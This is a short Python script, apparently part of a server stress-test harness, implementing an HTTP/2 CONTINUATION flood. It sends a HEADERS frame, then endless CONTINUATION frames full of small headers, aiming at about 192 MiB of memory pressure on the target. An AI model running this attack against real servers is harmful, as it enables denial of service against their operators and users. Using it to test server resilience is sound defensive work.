"""Endless small header fields in CONTINUATION frames, each of which is below the limit of headers."""

from flood import Flood
from harness import BUDGETS, MIB, run
from http2 import CONTINUATION, HEADERS, frame, header_block, literal


def attack(target):
    def begin(connection):
        connection.stream = connection.next_stream()
        connection.send(frame(HEADERS, 0, connection.stream, header_block("/x/y")))

    block = b"".join(literal("x-%d" % i, "v" * 40) for i in range(100))

    def part(connection):
        return frame(CONTINUATION, 0, connection.stream, block) * 32

    return Flood(target, 2, 192 * MIB, begin, part).outcome()


if __name__ == "__main__":
    run("CONTINUATION flood", attack, flags=BUDGETS)
